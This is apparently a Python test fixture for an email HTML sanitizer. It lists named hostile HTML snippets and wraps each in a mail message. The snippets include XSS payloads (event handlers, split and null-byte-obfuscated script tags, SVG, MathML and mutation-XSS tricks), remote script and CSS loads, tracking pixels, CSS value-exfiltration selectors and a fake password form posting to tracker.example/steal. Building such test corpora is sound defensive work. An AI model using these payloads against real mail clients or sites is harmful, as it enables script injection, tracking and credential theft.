"""Mail HTML that wants to run, fetch, send or lead somewhere. Every address is at tracker.example."""

T = "https://tracker.example"
HOSTILE = {
    "script": f"<script>document.title='ran'</script><script src='{T}/x.js'></script>",
    "script in pieces": "<scr<script>ipt>document.title='ran'</scr</script>ipt>",
    "event handlers": "<p onclick=alert(1) onmouseover=alert(1)>x</p><body onload=document.title='ran'><details open ontoggle=alert(1)>",
    "picture": f"<img src='{T}/pixel.gif' srcset='{T}/2.gif 2x' onerror=alert(1)><img src='//tracker.example/y.gif'>",
    "picture that fails": "<img src=x onerror=document.title='ran'>",
    "background": f"<table background='{T}/b.gif'><td style=\"background:url({T}/c.gif)\">x</td></table>",
    "style sheet": f"<link rel=stylesheet href='{T}/a.css'><style>@import '{T}/b.css'; body {{background: url({T}/c.png)}}</style>",
    "css that reads": f"<style>input[value^=a] {{background: url({T}/a)}} @font-face {{font-family:x; src:url({T}/f)}}</style><p style='font-family:x'>x</p><input value=abc>",
    "svg": f"<svg onload=document.title='ran'><image href='{T}/i.svg'/><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s /><use href='{T}/u.svg#x'/><feImage href='{T}/fe.png'/></svg>",
    "svg as data": "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>'>",
    "mathml": f"<math href='javascript:document.title=1'><mtext><style><img src=x onerror=document.title='ran'></style></mtext><maction actiontype='statusline' xlink:href='{T}'>x</maction></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='ran'&gt;\">",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=document.title='ran'>\"></noscript>",
    "javascript link": "<a href=\"javascript:document.title='ran'\">x</a><a href='JaVaScRiPt&colon;alert(1)'>y</a><a href='&#1;javascript:alert(1)'>z</a>",
    "vbscript and data links": "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>y</a>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={T}/gone'><meta http-equiv='Set-Cookie' content='a=b'>",
    "base": f"<base href='{T}/'><img src='relative.gif'><a href='relative'>x</a>",
    "form": f"<form action='{T}/steal' method=post><input name=password type=password autofocus onfocus=alert(1)><button>Sign in</button></form>",
    "frames": f"<iframe src='{T}/f'></iframe><iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe><frameset><frame src='{T}/g'></frameset>",
    "objects": f"<object data='{T}/o.swf'></object><embed src='{T}/e.swf'><applet code='{T}/a.class'></applet>",
    "media": f"<video src='{T}/v.mp4' poster='{T}/p.png' autoplay></video><audio src='{T}/a.mp3' autoplay></audio><source src='{T}/s'><track src='{T}/t'>",
    "prefetch": f"<link rel=prefetch href='{T}/p'><link rel=dns-prefetch href='//tracker.example'><link rel=preconnect href='{T}'><link rel=icon href='{T}/i'>",
    "nested data": "<iframe src='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZG9jdW1lbnQudGl0bGU9InJhbiI8L3NjcmlwdD4='></iframe>",
    "comment": f"<!--[if mso]><script>alert(1)</script><img src='{T}/mso.gif'><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "leaving": f"</body></html><script>document.title='ran'</script><a href='{T}' target=_top ping='{T}/ping'>x</a>",
    "odd bytes": "<img\x00 src=x\x0conerror=document.title='ran'><scr\x00ipt>alert(1)</scr\x00ipt>",
    "clobbering": "<img name=cookie><form id=document><input name=body></form><a id=location href=//tracker.example>x</a>",
    "import map": f"<script type=importmap>{{}}</script><script type=module>import '{T}/m.js'</script>",
    "isindex": f"<isindex action='{T}' type=image><keygen autofocus onfocus=alert(1)><marquee onstart=document.title='ran'>x</marquee>",
    "deep": "<div>" * 3000 + "x",
}


def as_mail(html: str) -> bytes:
    """The message that brings it."""
    head = (
        "From: Tom Reed <tom.reed@larkfield-tutors.example>\r\nTo: ana.marsh@family.example\r\n"
        "Subject: hello\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return (head + html).encode()
